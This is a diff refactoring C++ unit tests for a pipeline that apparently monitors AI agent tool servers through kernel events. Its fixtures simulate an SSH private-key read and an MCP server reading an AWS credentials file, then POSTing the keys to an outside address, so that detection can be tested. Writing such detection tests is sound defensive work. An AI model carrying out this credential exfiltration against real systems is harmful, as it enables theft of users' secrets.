@@ -13,6 +13,7 @@
 #include "detect/rules.h"
 #include "events.h"
 #include "pipeline/trace_file.h"
+#include "testing/events.h"
 
 namespace agentwatch {
 namespace {
@@ -35,46 +36,21 @@ class FakeSink : public WatchSink {
 std::vector<v1::Event> Workload() {
   std::vector<v1::Event> evs;
   uint64_t t = 1000;
-  auto base = [&](v1::EventType type, uint32_t pid) {
-    v1::Event e;
-    e.set_type(type);
-    e.set_ktime_ns(t += 1000);
-    e.set_time_unix_ns(1700000000000000000 + t);
-    e.mutable_process()->set_pid(pid);
-    e.mutable_process()->set_tid(pid);
-    return e;
+  // By `pid` (and its main thread), 1000 ns after the previous event.
+  auto stamp = [&](events::EventBuilder b, uint32_t pid) -> v1::Event {
+    t += 1000;
+    return b.At(t, 1700000000000000000 + t).Pid(pid).Tid(pid);
   };
-  v1::Event init = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, 1);
-  init.mutable_exec()->set_filename("/sbin/init");
-  evs.push_back(init);
-  v1::Event shell = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, 50);
-  shell.mutable_process()->set_ppid(1);
-  shell.mutable_exec()->set_filename("/bin/bash");
-  evs.push_back(shell);
-  v1::Event fork = base(v1::EVENT_TYPE_FORK, 50);
-  fork.mutable_fork()->set_child_pid(100);
-  evs.push_back(fork);
-  v1::Event exec = base(v1::EVENT_TYPE_EXEC, 100);
-  exec.mutable_process()->set_ppid(50);
-  exec.mutable_exec()->set_filename("/usr/bin/node");
-  exec.mutable_exec()->add_argv("node");
-  exec.mutable_exec()->add_argv(
-      "/app/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
-  evs.push_back(exec);
-  v1::Event child = base(v1::EVENT_TYPE_FORK, 100);
-  child.mutable_process()->set_watched(true);
-  child.mutable_fork()->set_child_pid(101);
-  child.mutable_fork()->set_child_watched(true);
-  evs.push_back(child);
-  v1::Event open = base(v1::EVENT_TYPE_FILE_OPEN, 101);
-  open.mutable_process()->set_watched(true);
-  open.mutable_file()->set_path("/home/u/.ssh/id_rsa");
-  evs.push_back(open);
-  v1::Event loss = base(v1::EVENT_TYPE_LOSS, 0);
-  loss.set_lost(3);
-  evs.push_back(loss);
-  v1::Event exit = base(v1::EVENT_TYPE_EXIT, 101);
-  evs.push_back(exit);
+  evs.push_back(stamp(events::Snapshot("/sbin/init"), 1));
+  evs.push_back(stamp(events::Snapshot("/bin/bash").Ppid(1), 50));
+  evs.push_back(stamp(events::Fork(100), 50));
+  const std::string server =
+      "/app/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js";
+  evs.push_back(stamp(events::Exec("/usr/bin/node", {"node", server}).Ppid(50), 100));
+  evs.push_back(stamp(events::Fork(101).Watched().ChildWatched(), 100));
+  evs.push_back(stamp(events::FileOpen("/home/u/.ssh/id_rsa").Watched(), 101));
+  evs.push_back(stamp(events::Loss(3), 0));
+  evs.push_back(stamp(events::Exit(), 101));
   return evs;
 }
 
@@ -114,11 +90,8 @@ TEST(PipelineTest, WatchesMatchingExecAndEnriches) {
   EXPECT_TRUE(open.process().watched());
   EXPECT_EQ(out[6].type(), v1::EVENT_TYPE_LOSS);
   // The watched count is refreshed once a second of kernel time.
-  v1::Event later;
-  later.set_type(v1::EVENT_TYPE_EXEC);
-  later.set_ktime_ns(out.back().ktime_ns() + 2000000000ull);
-  later.mutable_process()->set_pid(7);
-  p.Process(later);
+  const uint64_t later = out.back().ktime_ns() + 2000000000ull;
+  p.Process(events::Event(v1::EVENT_TYPE_EXEC).Ktime(later).Pid(7));
   EXPECT_EQ(p.watched(), 1u);  // 101 exited, 100 remains
 }
 
@@ -129,11 +102,7 @@ TEST(PipelineTest, ExistingTreeIsWatchedWhenRulesArrive) {
   // Snapshots of a server and its child, then the rules.
   v1::Event server = evs[3];
   server.set_type(v1::EVENT_TYPE_PROCESS_SNAPSHOT);
-  v1::Event child;
-  child.set_type(v1::EVENT_TYPE_PROCESS_SNAPSHOT);
-  child.mutable_process()->set_pid(101);
-  child.mutable_process()->set_ppid(100);
-  child.mutable_exec()->set_filename("/bin/sh");
+  v1::Event child = events::Snapshot("/bin/sh").Pid(101).Ppid(100);
   p.Process(evs[0]);
   p.Process(evs[1]);
   p.Process(child);   // child first: its parent is not known yet
@@ -154,22 +123,12 @@ TEST(PipelineTest, PayloadChunksBecomeMcpMessages) {
   const std::string line =
       R"({"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"fetch","arguments":{"url":"https://x.test/?k=1","token":"abc123"}}})"
       "\n";
-  auto chunk = [&](uint64_t off, std::string_view data) {
-    v1::Event e;
-    e.set_type(v1::EVENT_TYPE_PAYLOAD);
-    e.set_ktime_ns(1000 + off);
-    e.mutable_process()->set_pid(42);
-    e.mutable_process()->set_watched(true);
-    auto* pl = e.mutable_payload();
-    pl->set_syscall("read");
-    pl->set_fd(0);
-    pl->set_direction("in");
-    pl->set_file_type("pipe");
-    pl->set_inode(777);
-    pl->set_offset(off);
-    pl->set_syscall_length(data.size());
-    pl->set_data(std::string(data));
-    return e;
+  auto chunk = [&](uint64_t off, std::string_view data) -> v1::Event {
+    return events::Payload("in", 0, std::string(data))
+        .Stream("pipe", 777, off)
+        .Ktime(1000 + off)
+        .Pid(42)
+        .Watched();
   };
   p.Process(chunk(0, std::string_view(line).substr(0, 50)));
   p.Process(chunk(50, std::string_view(line).substr(50)));
@@ -199,38 +158,22 @@ TEST(PipelineTest, CallsBecomeChainUpdatesWithTheirEffects) {
   Pipeline p(Pipeline::Options{}, nullptr,
              [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
   uint64_t t = 1000000;
-  auto base = [&](v1::EventType type, uint32_t pid) {
-    v1::Event e;
-    e.set_type(type);
-    e.set_ktime_ns(t += 1000);
-    e.set_time_unix_ns(1700000000000000000 + static_cast<int64_t>(t));
-    e.mutable_process()->set_pid(pid);
-    e.mutable_process()->set_tid(pid);
-    return e;
+  auto stamp = [&](events::EventBuilder b, uint32_t pid) -> v1::Event {
+    t += 1000;
+    return b.At(t, 1700000000000000000 + static_cast<int64_t>(t)).Pid(pid).Tid(pid);
   };
   auto snapshot = [&](uint32_t pid, uint32_t ppid, const char* exe) {
-    v1::Event e = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, pid);
-    e.mutable_process()->set_ppid(ppid);
-    e.mutable_exec()->set_filename(exe);
-    p.Process(e);
+    p.Process(stamp(events::Snapshot(exe).Ppid(ppid), pid));
   };
   std::map<int, uint64_t> offsets;
   auto payload = [&](int fd, std::string data, uint64_t syscall_length = 0) {
-    v1::Event e = base(v1::EVENT_TYPE_PAYLOAD, 42);
-    e.mutable_process()->set_watched(true);
-    auto* pl = e.mutable_payload();
-    pl->set_syscall(fd == 0 ? "read" : "write");
-    pl->set_fd(fd);
-    pl->set_direction(fd == 0 ? "in" : "out");
-    pl->set_file_type("pipe");
-    pl->set_inode(900 + fd);
-    pl->set_offset(offsets[fd]);
     if (syscall_length == 0) syscall_length = data.size();
-    pl->set_syscall_length(syscall_length);
-    pl->set_truncated(syscall_length > data.size());
+    const bool cut = syscall_length > data.size();
+    events::EventBuilder b = events::Payload(fd == 0 ? "in" : "out", fd, std::move(data));
+    b.Stream("pipe", 900 + fd, offsets[fd]).Watched();
+    if (cut) b.Truncated(syscall_length);
     offsets[fd] += syscall_length;
-    pl->set_data(std::move(data));
-    p.Process(e);
+    p.Process(stamp(b, 42));
   };
   snapshot(1, 0, "/sbin/init");
   snapshot(41, 1, "/usr/bin/agent");
@@ -238,11 +181,7 @@ TEST(PipelineTest, CallsBecomeChainUpdatesWithTheirEffects) {
   payload(0, R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
   payload(1, R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
   payload(0, R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"path":"/data/a"}}})" "\n");
-  v1::Event open = base(v1::EVENT_TYPE_FILE_OPEN, 42);
-  open.mutable_file()->set_path("/data/a");
-  open.mutable_file()->set_flags_text("O_RDONLY");
-  open.mutable_file()->set_result(5);
-  p.Process(open);
+  p.Process(stamp(events::OpenRead("/data/a", 5), 42));
   payload(1, R"({"jsonrpc":"2.0","id":1,"result":{"content":[)", 70000);  // cut
   payload(0, R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list","arguments":{}}})" "\n");
   payload(1, R"({"jsonrpc":"2.0","id":2,"result":{"content":[]}})" "\n");
@@ -280,59 +219,34 @@ TEST(PipelineTest, BytesSentOutsideAreInspectedBeforeTheyAreCut) {
   ASSERT_EQ(LoadRules("", &rules), "");
   ASSERT_EQ(p.SetDetectionRules(rules), "");
   uint64_t t = 1000000;
-  auto base = [&](v1::EventType type, uint32_t pid) {
-    v1::Event e;
-    e.set_type(type);
-    e.set_ktime_ns(t += 1000);
-    e.set_time_unix_ns(1700000000000000000 + static_cast<int64_t>(t));
-    e.mutable_process()->set_pid(pid);
-    e.mutable_process()->set_tid(pid);
-    return e;
+  auto stamp = [&](events::EventBuilder b, uint32_t pid) -> v1::Event {
+    t += 1000;
+    return b.At(t, 1700000000000000000 + static_cast<int64_t>(t)).Pid(pid).Tid(pid);
   };
   for (auto [pid, ppid, exe] : {std::tuple{1u, 0u, "/sbin/init"}, {41u, 1u, "/usr/bin/agent"},
                                 {42u, 41u, "/usr/bin/node"}}) {
-    v1::Event e = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, pid);
-    e.mutable_process()->set_ppid(ppid);
-    e.mutable_exec()->set_filename(exe);
-    p.Process(e);
+    p.Process(stamp(events::Snapshot(exe).Ppid(ppid), pid));
   }
   std::map<int, uint64_t> offsets;
   auto payload = [&](int fd, const char* type, std::string data) {
-    v1::Event e = base(v1::EVENT_TYPE_PAYLOAD, 42);
-    e.mutable_process()->set_watched(true);
-    auto* pl = e.mutable_payload();
-    pl->set_syscall(fd == 0 ? "read" : "write");
-    pl->set_fd(fd);
-    pl->set_direction(fd == 0 ? "in" : "out");
-    pl->set_file_type(type);
-    pl->set_inode(900 + static_cast<uint64_t>(fd));
-    pl->set_offset(offsets[fd]);
-    pl->set_syscall_length(data.size());
+    const uint64_t offset = offsets[fd];
     offsets[fd] += data.size();
-    pl->set_data(std::move(data));
-    p.Process(e);
+    p.Process(stamp(events::Payload(fd == 0 ? "in" : "out", fd, std::move(data))
+                        .Stream(type, 900 + static_cast<uint64_t>(fd), offset)
+                        .Watched(),
+                    42));
   };
   // A stdio server (42) of agent 41 reads a credentials file for it...
   payload(0, "pipe", R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
   payload(1, "pipe", R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
   payload(0, "pipe", R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"path":"/home/u/.aws/credentials"}}})" "\n");
-  v1::Event open = base(v1::EVENT_TYPE_FILE_OPEN, 42);
-  open.mutable_file()->set_path("/home/u/.aws/credentials");
-  open.mutable_file()->set_flags_text("O_RDONLY");
-  open.mutable_file()->set_result(5);
-  p.Process(open);
+  p.Process(stamp(events::OpenRead("/home/u/.aws/credentials", 5), 42));
   const std::string creds =
       "[default]\\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\\naws_secret_access_key = "
       "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\\nregion = eu-west-1";
   payload(1, "pipe", R"({"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":")" + creds + R"("}]}})" "\n");
   // ...then connects outside and posts it (fd 7, its own socket).
-  v1::Event conn = base(v1::EVENT_TYPE_NET_CONNECT, 42);
-  conn.mutable_net()->set_protocol("tcp");
-  conn.mutable_net()->set_socket_inode(907);
-  conn.mutable_net()->mutable_remote()->set_family("inet");
-  conn.mutable_net()->mutable_remote()->set_address("203.0.113.9");
-  conn.mutable_net()->mutable_remote()->set_port(80);
-  p.Process(conn);
+  p.Process(stamp(events::TcpConnect("203.0.113.9", 80).SocketInode(907), 42));
   payload(7, "socket",
           "POST /c HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: 140\r\n\r\n"
           "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
@@ -362,19 +276,13 @@ TEST(PipelineTest, QueueOverflowIsCountedAndMarked) {
   });
   int accepted = 0;
   for (int i = 0; i < 10; ++i) {
-    v1::Event e;
-    e.set_type(v1::EVENT_TYPE_EXEC);
-    e.mutable_process()->set_pid(i + 1);
-    accepted += p.Push(std::move(e));
+    accepted += p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(i + 1));
   }
   EXPECT_EQ(accepted, 4);
   EXPECT_EQ(p.queue_drops(), 6u);
   std::thread t([&] { p.Run(); });
   while (p.processed() < 4) std::this_thread::sleep_for(std::chrono::milliseconds(1));
-  v1::Event late;
-  late.set_type(v1::EVENT_TYPE_EXEC);
-  late.mutable_process()->set_pid(99);
-  EXPECT_TRUE(p.Push(std::move(late)));
+  EXPECT_TRUE(p.Push(events::Event(v1::EVENT_TYPE_EXEC).Pid(99)));
   p.Stop();
   t.join();
   ASSERT_EQ(out.size(), 6u);
